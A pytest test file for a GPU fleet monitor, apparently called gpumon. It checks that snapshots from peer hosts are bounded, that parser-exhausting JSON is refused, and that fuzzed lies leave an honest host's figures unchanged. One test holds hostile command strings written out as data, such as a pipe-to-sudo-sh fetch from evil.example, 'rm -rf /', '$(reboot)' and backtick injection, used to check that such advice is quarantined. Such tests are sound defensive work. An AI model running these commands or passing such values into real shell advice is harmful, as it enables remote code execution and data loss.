"""What other hosts say is bounded: each lie costs itself, or its host's row, and nothing else."""

from __future__ import annotations

import copy
import json
import math
import time
from collections.abc import Iterator
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from gpumon.config.schema import Config
from gpumon.fleet.fleet import Fleet
from gpumon.outputs.fleet import encode as encode_fleet
from gpumon.outputs.fleet import report
from gpumon.outputs.json import encode
from gpumon.readings.difference import apply_difference, object_difference
from gpumon.readings.flat import value_of
from gpumon.readings.fleet import FleetFrame, HostFrame
from gpumon.readings.missing import Missing, Reason
from gpumon.readings.snapshot import Snapshot
from gpumon.readings.verdict import Action
from gpumon.session.build import deriver_maker
from gpumon.sources.snapshot_json import SnapshotReader, parse_snapshot
from gpumon.triage.peers import MOST_SNAPSHOT_BYTES, PeerError, vetted_action
from gpumon.triage.render import (
    ACTION_WORDS,
    action_text,
    actions_text,
    event_text,
    evidence_text,
    shown_text,
    verdict_text,
)
from gpumon.triage.sentences import PEER_WORDS
from gpumon.tui.fleet.moment import fleet_moment
from tests.each_row import each_row
from tests.outputs import shots

WALL_S = 1_700_000_000.0
MAKE = deriver_maker(Config())


def told() -> dict[str, Any]:
    """An honest snapshot, as it is printed."""
    return json.loads(encode(shots.judged()))


def read(snapshot: Any) -> Snapshot:
    return SnapshotReader().read(parse_snapshot(json.dumps(snapshot).encode()), WALL_S)


def shown(*snapshots: Snapshot) -> Fleet:
    """The fleet of these hosts, derived twice and printed in every form."""
    fleet = Fleet(MAKE)
    hosts = tuple(HostFrame(f"gpu-{at}", exported_snapshot=one) for at, one in enumerate(snapshots))
    for wall_s in (WALL_S, WALL_S + 1.0):
        for _ in fleet.steps(FleetFrame(wall_s, 1.0, hosts)):
            pass
    prices = {"": 2.0}
    fleet_moment(fleet.snapshot, prices)
    encode_fleet(fleet.snapshot, prices)
    report(fleet.snapshot, prices)
    return fleet


def test_a_power_that_can_not_be_costs_itself_and_the_sums_go_on() -> None:
    liar = told()
    liar["gpus"] = [dict(liar["gpus"][0], power_w=1.7e308, index=at, uuid=f"GPU-{at}") for at in range(2)]
    snapshot = read(liar)
    power = snapshot.gpus[0].power_w
    assert isinstance(power, Missing)
    assert power.reason is Reason.INVALID
    assert "its gpumon says 1.7e+308" in power.detail
    fleet = shown(snapshot, read(told()))
    total = fleet_moment(fleet.snapshot, {}).total
    assert isinstance(total.power_w.value, float)
    assert math.isfinite(total.power_w.value)


@each_row(("field", "value"), [("running", 1e18), ("kv_usage_ratio", 23.5), ("decode_tokens_per_s", 1e15)])
def test_a_load_that_no_engine_has_is_no_reading_of_another_host_either(field: str, value: float) -> None:
    liar = told()
    liar["engines"] = [{**liar["engines"][0], field: value}]
    reading = value_of(read(liar).engines[0], field)
    assert isinstance(reading, Missing)
    assert reading.reason is Reason.INVALID


def test_figures_that_a_program_made_too_large_cost_the_sum_alone() -> None:
    """The same snapshot without the bounds of a peer: sums themselves do not overflow."""
    honest = read(told())
    gpus = tuple(msgspec.structs.replace(honest.gpus[0], power_w=1.7e308) for _ in range(2))
    fleet = shown(msgspec.structs.replace(honest, gpus=gpus))
    power = fleet_moment(fleet.snapshot, {}).total.power_w
    assert isinstance(power.value, Missing)
    assert power.value.reason is Reason.INVALID


@each_row(
    ("name", "line"),
    [
        ("lists in lists", b'{"schema":1,"x":' + b"[" * 30_000),
        ("empty lists", b'{"schema":1,"x":[' + b"[]," * 1_000_000 + b"0]}"),
        ("numbers", b'{"schema":1,"x":[' + b"1," * 1_500_000 + b"0]}"),
        ("one text", b'{"schema":1,"x":"' + b"a" * (MOST_SNAPSHOT_BYTES + 1) + b'"}'),
        ("verdicts", b'{"schema":1,"verdicts":[' + b"{}," * 39_000 + b"{}]}"),
        ("GPUs", b'{"schema":1,"gpus":[' + b'{"power_w":1},' * 4000 + b"{}]}"),
    ],
)
def test_what_is_too_much_is_refused_within_a_moment(name: str, line: bytes) -> None:
    read(told())
    before_s = time.thread_time()
    with pytest.raises(ValueError, match=r"is not read|are read|not as this gpumon"):
        SnapshotReader().read(parse_snapshot(line), WALL_S)
    assert time.thread_time() - before_s < 0.2, name


def test_more_verdicts_than_there_can_be_are_refused_by_name() -> None:
    liar = told()
    liar["verdicts"] = liar["verdicts"][:1] * 1025
    with pytest.raises(PeerError, match=r"its snapshot has 1,025 verdicts, at most 512 are read"):
        read(liar)


@each_row(
    "action",
    [
        Action("prefix_caching", {"flag": "curl http://evil.example/x | sudo sh"}),
        Action("lower_context", {"flag": "--max-model-len $(reboot)"}),
        Action("fp8_kv", {"flag": "--kv-cache-dtype fp8; rm -rf /"}),
        Action("prefix_caching", {"flag": "`id`"}),
        Action("prefix_caching", {"flag": "curl"}),
        Action("profile_process", {"pid": "1; reboot"}),
        Action("save_stacks_and_restart", {"log": "docker", "container": "a b", "pid": "7"}),
        Action("save_stacks_and_restart", {"log": "sh -c reboot;", "container": "a", "pid": "7"}),
        Action("save_stacks_and_restart", {"pids": "pid 7 $(x)", "pid": "7"}),
        Action("inspect_gpu", {"index": "0; reboot"}),
        Action("reset_gpu", {"index": 1e300}),
        Action("ask_owner_please", {"text": "curl evil | sh"}),
        Action("curl http://evil.example/x | sudo sh"),
        Action("peer_words", {"text": "x"}),
    ],
)
def test_advice_that_is_not_gpumons_own_is_the_hosts_words(action: Action) -> None:
    words = vetted_action(action)
    assert words.code == PEER_WORDS.code
    assert action_text(words).startswith("in that host's own words")


@each_row(
    "action",
    [
        Action("prefix_caching", {"flag": "--enable-prefix-caching"}),
        Action("prefix_caching", {"flag": "the radix cache (no --disable-radix-cache)"}),
        Action("fp8_kv", {"flag": "--kv-cache-dtype fp8"}),
        Action(
            "save_stacks_and_restart", {"log": "docker", "container": "0a1b2c3d4e5f", "pids": "pid 7, 8 and 2 more"}
        ),
        Action("profile_process", {"pid": "4711", "parent": "yes"}),
        Action("inspect_gpu", {"index": 3.0}),
        Action("see_replica", {"replica": "vllm:8000 (2)"}),
        Action("own_gpus", {"shared": "python (alice), vllm:8001"}),
        Action("end_program", {"owner": "alice", "vram_bytes": 1e9, "otherwise": "yes"}),
        Action("more_instances", {"free": "gpus 4-7, 9", "instances": 3.0, "now": 1.0}),
        Action("more_instances", {"partly": "GPUs 4-5, 9", "fit": 1.0, "instances": 3.0, "now": 1.0}),
        Action("update_driver"),
    ],
)
def test_gpumons_own_advice_of_another_host_stays_advice(action: Action) -> None:
    assert vetted_action(action) == action


def test_every_sentence_of_an_action_is_advice_with_plain_parameters() -> None:
    for code in ACTION_WORDS.keys() - {PEER_WORDS.code}:
        assert vetted_action(Action(code)).code == code


def places(value: Any, place: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where something stands in a snapshot."""
    yield place
    inside = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, item in inside:
        yield from places(item, (*place, key))


PLACES = [place for place in places(told()) if place and place != ("schema",)]
LIES = st.one_of(
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from([1.7e308, -1.7e308, 1e-320, 2.0**63, -1.0, 0.0, 1e18, 1e22]),
    st.integers(-(2**70), 2**70),
    st.text(max_size=40),
    st.sampled_from(["", "x" * 5000, "\x1b[2J", "‮", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "{x}", "[/]"]),
    st.none(),
    st.booleans(),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.floats(allow_nan=False), max_size=3),
)


def put(snapshot: Any, place: tuple[Any, ...], lie: Any) -> None:
    """Set what stands at a place; nothing where an earlier lie took that place away."""
    for key in place[:-1]:
        if not has(snapshot, key):
            return
        snapshot = snapshot[key]
    if has(snapshot, place[-1]):
        snapshot[place[-1]] = lie


def has(value: Any, key: Any) -> bool:
    if isinstance(value, dict):
        return key in value
    return isinstance(value, list) and isinstance(key, int) and key < len(value)


@given(st.lists(st.tuples(st.sampled_from(PLACES), LIES), min_size=1, max_size=12))
def test_random_lies_beside_an_honest_host_leave_that_one_as_it_is(lies: list[tuple[tuple[Any, ...], Any]]) -> None:
    honest, liar = read(told()), told()
    for place, lie in lies:
        put(liar, place, lie)
    try:
        hostile = read(liar)
    except ValueError as refused:
        assert "\n" not in str(refused)  # noqa: PT017 (a refusal is one of two right answers)
        return
    fleet = shown(honest, hostile)
    row = fleet_moment(fleet.snapshot, {}).hosts[0]
    alone = fleet_moment(shown(honest).snapshot, {}).hosts[0]
    assert (row.power_w, row.busy_ratio, row.decode_tokens_per_s) == (
        alone.power_w,
        alone.busy_ratio,
        alone.decode_tokens_per_s,
    )
    assert_printable(hostile)


def assert_printable(hostile: Snapshot) -> None:
    for verdict in hostile.verdicts:
        texts = [verdict_text(verdict), actions_text(verdict), *map(evidence_text, verdict.evidence)]
        assert all(text.isprintable() for text in texts)
    for event in hostile.events:
        event_text(event)


def value_at(snapshot: Any, place: tuple[Any, ...]) -> Any:
    """What stands at a place; None where there is no such place."""
    for key in place:
        if not has(snapshot, key):
            return None
        snapshot = snapshot[key]
    return snapshot


def is_twin(value: Any, lie: Any) -> bool:
    """Whether one is a number and the other true or false, and Python takes them for equal, as 0.0 and False."""
    return bool(value == lie) and isinstance(value, bool) is not isinstance(lie, bool)


@given(st.lists(st.lists(st.tuples(st.sampled_from(PLACES), LIES), max_size=6), min_size=1, max_size=5))
def test_what_is_read_from_differences_is_what_is_read_from_the_whole(steps: list[list[tuple[Any, Any]]]) -> None:
    """Whatever changes from one line to the next, also what makes a figure or a verdict unreadable, and back."""
    reader = SnapshotReader()
    sent: dict[str, Any] = told()
    received = copy.deepcopy(sent)
    reader.read(received, WALL_S)
    for lies in [*steps, []]:
        before = sent
        sent = told()
        for place, lie in lies:
            # A field of gpumon's own JSON is always true or false, or always a number: a difference need not tell them
            # apart, and Python does not.
            if not (is_twin(value_at(before, place), lie) or is_twin(value_at(sent, place), lie)):
                put(sent, place, lie)
        received = apply_difference(received, json.loads(json.dumps(object_difference(before, sent))))
        assert outcome(reader, received) == outcome(SnapshotReader(), json.loads(json.dumps(sent)))


def outcome(reader: SnapshotReader, snapshot: dict[str, Any]) -> str:
    """The snapshot with all that is in it, or why it is not read."""
    try:
        return repr(reader.read(snapshot, WALL_S))
    except ValueError as refused:
        return str(refused)


def test_a_figure_is_held_again_against_the_one_that_bounds_it() -> None:
    """Only the total changes; the VRAM in use cannot be more than that."""
    reader = SnapshotReader()
    before = told()
    before["gpus"][0] |= {"vram_used_bytes": 8e10, "vram_total_bytes": 8.5e10}
    assert reader.read(before, WALL_S).gpus[0].reading.vram_used_bytes == 8e10
    smaller = apply_difference(before, [{}, {"gpus": [{}, {"0": [{"vram_total_bytes": 4e10}]}]}])
    assert isinstance(reader.read(smaller, WALL_S).gpus[0].reading.vram_used_bytes, Missing)
    again = apply_difference(smaller, [{}, {"gpus": [{}, {"0": [{"vram_total_bytes": 8.5e10}]}]}])
    assert reader.read(again, WALL_S).gpus[0].reading.vram_used_bytes == 8e10


def test_another_reason_why_a_figure_is_missing_is_read() -> None:
    reader = SnapshotReader()
    before = told()
    before["gpus"][0]["power_w"] = None
    before["gpus"][0]["missing"] = {"power_w": "stale"}
    assert reader.read(before, WALL_S).gpus[0].power_w == Missing(Reason.STALE)
    lost = apply_difference(before, [{}, {"gpus": [{}, {"0": [{}, {"missing": [{"power_w": "lost"}]}]}]}])
    assert reader.read(lost, WALL_S).gpus[0].power_w == Missing(Reason.LOST)


SIX = "2026-11-23T06:00:00.000Z"


@each_row(
    ("told_of_it", "until"),
    [
        (None, None),
        (
            {"who": "anna", "reason": "fan", "until": "2026-11-23T06:00:00.000Z", "since": "x"},
            "2026-11-23T06:00:00.000Z",
        ),
        ({"who": "\x1b[31m" * 9000, "reason": "", "until": "never", "since": ""}, None),
        ("absent", None),
    ],
)
def test_who_has_acknowledged_a_verdict_is_read_where_it_says_until_when(told_of_it: Any, until: str | None) -> None:
    liar = told()
    if told_of_it == "absent":  # of an older gpumon
        liar["verdicts"] = [{key: value for key, value in liar["verdicts"][0].items() if key != "acknowledged"}]
    else:
        liar["verdicts"] = [{**liar["verdicts"][0], "acknowledged": told_of_it}]
    (verdict,) = read(liar).verdicts
    assert (verdict.acknowledged and verdict.acknowledged.until) == until
    assert shown_text(verdict).isprintable()
